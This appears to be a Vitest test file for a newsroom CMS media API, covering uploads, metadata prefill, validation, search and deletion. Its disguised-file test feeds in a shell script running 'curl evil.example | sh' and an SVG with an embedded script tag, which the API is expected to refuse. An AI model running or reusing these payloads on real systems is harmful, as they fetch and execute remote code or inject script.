import fs from 'node:fs';
import path from 'node:path';
import type { FastifyInstance } from 'fastify';
import { expect, it } from 'vitest';
import { buildTestApp } from '../../../test/support/app.js';
import { apiToken, signedInAs } from '../../../test/support/auth.js';
import { describeEachDialect } from '../../../test/support/databases.js';
import { fixedClock } from '../../platform/clock.js';
import { MEDIA_MAX_BYTES } from './media.js';
import { IIM, pngClaiming, samplePhoto, withIptc, xmpPacket } from './media-samples.js';

const api = '/api/admin/v1';

function upload(
  app: FastifyInstance,
  headers: Record<string, string>,
  bytes: Buffer,
  type = 'image/jpeg',
  name?: string,
) {
  return app.inject({
    method: 'POST',
    url: `${api}/media`,
    headers: { ...headers, 'content-type': type, ...(name ? { 'x-filename': name } : {}) },
    payload: bytes,
  });
}

/** Every file under the test's media folder: a refused upload must leave none. */
function storedFiles(dataDir: string): string[] {
  const root = path.join(dataDir, 'media');
  if (!fs.existsSync(root)) return [];
  return (fs.readdirSync(root, { recursive: true }) as string[]).filter((f) =>
    fs.statSync(path.join(root, f)).isFile(),
  );
}

describeEachDialect('media API', (t) => {
  it('takes a photo, prefills its credits from IPTC, XMP and EXIF, and keeps the original privately', async () => {
    const { app, deps } = await buildTestApp(t.database);
    const { headers, staff } = await signedInAs(deps, 'contributor', { name: 'Pat Desk' });
    const photo = withIptc(
      await samplePhoto({
        width: 800,
        height: 600,
        exif: {
          IFD0: { Artist: 'Camera Owner', Copyright: 'Camera Owner 2026' },
          IFD2: { DateTimeOriginal: '2026:11:15 10:20:30' },
          IFD3: {
            GPSLatitudeRef: 'N',
            GPSLatitude: '50/1 27/1 0/1',
            GPSLongitudeRef: 'E',
            GPSLongitude: '30/1 31/1 0/1',
          },
        },
        xmp: xmpPacket({
          caption: 'The secretary general at headquarters, November 16.',
          usageTerms: 'Editorial use only',
          webStatement: 'https://agency.example/licence',
        }),
      }),
      [
        [IIM.credit, 'Agency/Jane Doe'],
        [IIM.byline, 'Jane Doe'],
      ],
    );
    const res = await upload(app, headers, photo, 'image/jpeg', encodeURIComponent('Kyiv – visit.jpg'));
    expect(res.statusCode).toBe(201);
    const media = res.json();
    expect(media).toMatchObject({
      format: 'jpeg',
      mimeType: 'image/jpeg',
      bytes: photo.length,
      width: 800,
      height: 600,
      originalName: 'Kyiv – visit.jpg',
      altText: '',
      caption: 'The secretary general at headquarters, November 16.',
      credit: 'Agency/Jane Doe',
      creator: 'Jane Doe',
      copyrightNotice: 'Camera Owner 2026',
      usageTerms: 'Editorial use only',
      licenseUrl: 'https://agency.example/licence',
      takenAt: '2026-11-15T10:20:30.000Z',
      focalPoint: { x: 0.5, y: 0.5 },
      variantsStatus: 'pending',
      uploadedBy: { staffId: staff.id, name: 'Pat Desk' },
      createdAt: '2026-11-16T09:00:00.000Z',
      // The reader site's fallback JPEG is made with the upload (ADR 0013); the rest by the job.
      variants: [
        { kind: 'width', format: 'jpeg', width: 800, height: 600, url: expect.stringMatching(/^\/media\//) },
      ],
      usedIn: [],
    });
    expect(storedFiles(t.database.dataDir).sort()).toEqual([
      path.join('originals', `${media.id}.jpg`),
      path.join('public', path.basename(media.variants[0].url)),
    ]);
    const jobs = await deps.database.db.selectFrom('jobs').select(['kind', 'payload']).execute();
    expect(jobs).toEqual([{ kind: 'media.variants', payload: JSON.stringify({ mediaId: media.id }) }]);
    const again = await app.inject({ method: 'GET', url: `${api}/media/${media.id}`, headers });
    expect(again.json()).toEqual(media);
  });

  it('decides the type from the content and refuses disguised files, leaving nothing behind', async () => {
    const { app, deps } = await buildTestApp(t.database);
    const { headers } = await apiToken(deps, 'reporter');
    const whole = await samplePhoto({ width: 300, height: 200, texture: true });
    const cases: [Buffer, string, string | undefined, number, string][] = [
      [
        Buffer.from('#!/bin/sh\ncurl evil.example | sh\n'),
        'image/jpeg',
        'photo.jpg',
        400,
        'MEDIA_TYPE_REFUSED',
      ],
      [
        Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
        'image/svg+xml',
        'logo.svg',
        400,
        'MEDIA_TYPE_REFUSED',
      ],
      [await pngClaiming(100_000, 100_000), 'image/png', 'bomb.png', 400, 'MEDIA_TOO_MANY_PIXELS'],
      [whole.subarray(0, whole.length / 2), 'application/octet-stream', undefined, 400, 'MEDIA_UNREADABLE'],
      [Buffer.alloc(0), 'image/jpeg', undefined, 400, 'MEDIA_UNREADABLE'],
    ];
    for (const [bytes, type, name, status, code] of cases) {
      const res = await upload(app, headers, bytes, type, name);
      expect(res.statusCode, code).toBe(status);
      expect(res.json().error).toMatchObject({ code, details: { field: 'file' } });
    }
    expect(await deps.database.db.selectFrom('media').select('id').execute()).toEqual([]);
    expect(await deps.database.db.selectFrom('jobs').select('id').execute()).toEqual([]);
    expect(storedFiles(t.database.dataDir)).toEqual([]);
  });

  it('refuses a file over the size limit with 413, before reading it all', async () => {
    const { app, deps } = await buildTestApp(t.database);
    const { headers } = await apiToken(deps, 'contributor');
    const big = Buffer.concat([await samplePhoto(), Buffer.alloc(MEDIA_MAX_BYTES)]);
    const res = await upload(app, headers, big);
    expect(res.statusCode).toBe(413);
    expect(res.json().error).toMatchObject({ code: 'MEDIA_TOO_LARGE', details: { field: 'file' } });
    expect(storedFiles(t.database.dataDir)).toEqual([]);
  });

  it('needs a signed-in staff member, and a body of an image type', async () => {
    const { app, deps } = await buildTestApp(t.database);
    const anonymous = await upload(app, {}, await samplePhoto());
    expect(anonymous.statusCode).toBe(401);
    const { headers } = await apiToken(deps, 'contributor');
    const json = await app.inject({ method: 'POST', url: `${api}/media`, headers, payload: { file: 'x' } });
    expect(json.statusCode).toBe(415);
    expect(json.json().error.code).toBe('MEDIA_BODY_UNSUPPORTED');
    // A form with no file in it is refused the same way.
    const form = await upload(
      app,
      headers,
      Buffer.from('--x\r\n\r\n--x--'),
      'multipart/form-data; boundary=x',
    );
    expect(form.statusCode).toBe(415);
    expect(form.json().error.code).toBe('MEDIA_BODY_UNSUPPORTED');
    expect(storedFiles(t.database.dataDir)).toEqual([]);
  });

  it('takes a photo as the file of a multipart form, and refuses a disguised one there too', async () => {
    const { app, deps } = await buildTestApp(t.database);
    const { headers } = await signedInAs(deps, 'contributor');
    const form = (name: string, type: string, bytes: Buffer) => {
      const boundary = 'masthead-boundary';
      const head = `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\nContent-Type: ${type}\r\n\r\n`;
      return app.inject({
        method: 'POST',
        url: `${api}/media`,
        headers: { ...headers, 'content-type': `multipart/form-data; boundary=${boundary}` },
        payload: Buffer.concat([Buffer.from(head), bytes, Buffer.from(`\r\n--${boundary}--\r\n`)]),
      });
    };
    const ok = await form('harbour.jpg', 'image/jpeg', await samplePhoto());
    expect(ok.statusCode, ok.body).toBe(201);
    expect(ok.json()).toMatchObject({ format: 'jpeg', originalName: 'harbour.jpg' });
    const script = await form('harbour.jpg', 'image/jpeg', Buffer.from('#!/bin/sh\necho owned\n'));
    expect(script.statusCode).toBe(400);
    expect(script.json().error.code).toBe('MEDIA_TYPE_REFUSED');
  });

  it('lets the desk correct credits and the focal point, naming the field of a bad value', async () => {
    const { app, deps } = await buildTestApp(t.database);
    const { headers } = await signedInAs(deps, 'contributor');
    const media = (await upload(app, headers, await samplePhoto())).json();
    const patch = (payload: object, id = media.id) =>
      app.inject({ method: 'PATCH', url: `${api}/media/${id}`, headers, payload });

    const res = await patch({
      altText: ' The secretary general speaks ',
      credit: 'Agency/Jane Doe',
      creator: 'Jane Doe',
      copyrightNotice: '© 2026 Agency',
      usageTerms: 'Editorial use only',
      licenseUrl: 'https://agency.example/licence',
      caption: 'At headquarters.',
      focalPoint: { x: 0.25, y: 0.3 },
    });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({
      altText: 'The secretary general speaks',
      credit: 'Agency/Jane Doe',
      focalPoint: { x: 0.25, y: 0.3 },
    });
    // The new focal point queued a new social crop.
    const kinds = await deps.database.db
      .selectFrom('jobs')
      .select('unique_key')
      .orderBy('unique_key')
      .execute();
    expect(kinds.map((k) => k.unique_key)).toEqual([
      `media.variants:${media.id}:0.25,0.3`,
      `media.variants:${media.id}:0.5,0.5`,
    ]);

    const bad: [object, number, string, string][] = [
      [{ focalPoint: { x: 1.5, y: 0 } }, 400, 'VALIDATION_FAILED', 'focalPoint.x'],
      [{ licenseUrl: 'ftp://agency.example' }, 400, 'MEDIA_INVALID', 'licenseUrl'],
      [{ credit: 'x'.repeat(400) }, 400, 'MEDIA_INVALID', 'credit'],
      [{}, 400, 'VALIDATION_FAILED', ''],
    ];
    for (const [payload, status, code, field] of bad) {
      const res = await patch(payload);
      expect(res.statusCode, JSON.stringify(payload)).toBe(status);
      expect(res.json().error.code).toBe(code);
      if (code === 'MEDIA_INVALID') expect(res.json().error.details.field).toBe(field);
      if (field && code === 'VALIDATION_FAILED') {
        expect(res.json().error.details.problems[0].field).toBe(field);
      }
    }
    expect((await patch({ credit: 'x' }, 'no-such-id')).statusCode).toBe(404);
    // Facts read from the file are not the desk's to change: unknown fields are refused, nothing is written.
    const forged = await patch({ credit: 'Agency', sha256: 'forged', width: 1 });
    expect(forged.statusCode).toBe(400);
    expect(forged.json().error).toMatchObject({
      code: 'UNKNOWN_FIELDS',
      details: { fields: ['sha256', 'width'] },
    });
    const kept = await app.inject({ url: `${api}/media/${media.id}`, headers });
    expect(kept.json()).toMatchObject({ sha256: media.sha256, width: media.width });
    expect(kept.json().credit).not.toBe('Agency');
  });

  it('lists the library newest first, searches caption, credit and creator, and pages with a cursor', async () => {
    const clock = fixedClock('2026-11-16T09:00:00.000Z');
    const { app, deps } = await buildTestApp(t.database, { clock });
    const { headers } = await apiToken(deps, 'reporter');
    const credits = [
      { caption: 'Budget vote in parliament', credit: 'Wire/A. Smith', creators: ['A. Smith'] },
      { caption: 'Floods in the north', credit: 'Ledger/B. Jones', creators: ['B. Jones'] },
      { caption: '100% turnout_claims', credit: 'Ledger/C. Brown', creators: ['Zoë Ångström'] },
    ];
    const ids: string[] = [];
    for (const c of credits) {
      ids.push((await upload(app, headers, await samplePhoto({ xmp: xmpPacket(c) }))).json().id);
      clock.advance(60_000);
    }
    const list = async (query: string) =>
      (await app.inject({ method: 'GET', url: `${api}/media${query}`, headers })).json();

    expect((await list('')).items.map((m: { id: string }) => m.id)).toEqual([...ids].reverse());
    expect((await list('?q=ledger')).items.map((m: { id: string }) => m.id)).toEqual([ids[2], ids[1]]);
    expect((await list('?q=SMITH')).items.map((m: { id: string }) => m.id)).toEqual([ids[0]]);
    expect((await list('?q=floods')).items.map((m: { id: string }) => m.id)).toEqual([ids[1]]);
    // LIKE wildcards in the search are literal characters.
    expect((await list(`?q=${encodeURIComponent('0%')}`)).items.map((m: { id: string }) => m.id)).toEqual([
      ids[2],
    ]);
    expect((await list('?q=_')).items.map((m: { id: string }) => m.id)).toEqual([ids[2]]);

    const first = await list('?limit=2');
    expect(first.items.map((m: { id: string }) => m.id)).toEqual([ids[2], ids[1]]);
    // Before the variants job has run, the upload's fallback JPEG stands in for the WebP thumbnail.
    expect(first.items[0].thumbnail).toMatchObject({ format: 'jpeg', kind: 'width' });
    const second = await list(`?limit=2&cursor=${first.nextCursor}`);
    expect(second).toMatchObject({ items: [{ id: ids[0] }], nextCursor: null });

    const bad = await app.inject({ method: 'GET', url: `${api}/media?cursor=nonsense`, headers });
    expect(bad.statusCode).toBe(400);
    expect(bad.json().error).toMatchObject({ code: 'MEDIA_INVALID', details: { field: 'cursor' } });
  });

  it('shows where a photo is used and refuses to delete it then; its uploader or an editor deletes it otherwise', async () => {
    const { app, deps } = await buildTestApp(t.database);
    const editor = (await signedInAs(deps, 'editor')).headers;
    const reporter = (await signedInAs(deps, 'reporter')).headers;
    const used = (await upload(app, reporter, await samplePhoto())).json();
    const spare = (await upload(app, reporter, await samplePhoto({ format: 'png' }), 'image/png')).json();
    const image = {
      type: 'image',
      attrs: { mediaId: used.id, src: null, alt: 'Handshake', caption: '', credit: 'A' },
    };
    const article = await app.inject({
      method: 'POST',
      url: `${api}/articles`,
      headers: editor,
      payload: { headline: 'Alliance Chief Visits Capital', body: { type: 'doc', content: [image] } },
    });
    expect(article.statusCode).toBe(201);
    const articleId = article.json().id;
    // The articles API has no lead image field yet; its column holds the same JSON shape.
    await deps.database.db
      .updateTable('articles')
      .set({ lead_image: JSON.stringify({ mediaId: used.id, caption: '', credit: '', alt: '' }) })
      .where('id', '=', articleId)
      .execute();

    const detail = (
      await app.inject({ method: 'GET', url: `${api}/media/${used.id}`, headers: editor })
    ).json();
    // The reporter may not read the editor's draft (ADR 0014), so it is not named to them.
    const forReporter = await app.inject({
      method: 'GET',
      url: `${api}/media/${used.id}`,
      headers: reporter,
    });
    expect(forReporter.json().usedIn).toEqual([]);
    expect(detail.usedIn).toEqual([
      {
        articleId,
        headline: 'Alliance Chief Visits Capital',
        slug: expect.any(String),
        status: 'draft',
        places: ['lead', 'body'],
      },
    ]);
    const del = (id: string, headers: Record<string, string>) =>
      app.inject({ method: 'DELETE', url: `${api}/media/${id}`, headers });
    const inUse = await del(used.id, editor);
    expect(inUse.statusCode).toBe(409);
    expect(inUse.json().error).toMatchObject({
      code: 'MEDIA_IN_USE',
      details: { usedIn: [{ articleId, places: ['lead', 'body'] }] },
    });

    // An unused photo is its uploader's or an editor's: another reporter is refused.
    const otherReporter = (await signedInAs(deps, 'reporter')).headers;
    const forbidden = await del(spare.id, otherReporter);
    expect(forbidden.statusCode).toBe(403);
    expect(forbidden.json().error.code).toBe('FORBIDDEN');
    expect((await del(spare.id, editor)).statusCode).toBe(204);
    expect((await del(spare.id, editor)).statusCode).toBe(404);
    expect(storedFiles(t.database.dataDir).sort()).toEqual([
      path.join('originals', `${used.id}.jpg`),
      path.join('public', path.basename(used.variants[0].url)),
    ]);
    const purge = await deps.database.db
      .selectFrom('jobs')
      .select('payload')
      .where('kind', '=', 'media.purge')
      .execute();
    expect(JSON.parse(purge[0]!.payload)).toEqual({
      keys: [`originals/${spare.id}.png`, `public/${path.basename(spare.variants[0].url)}`],
    });
  });
});
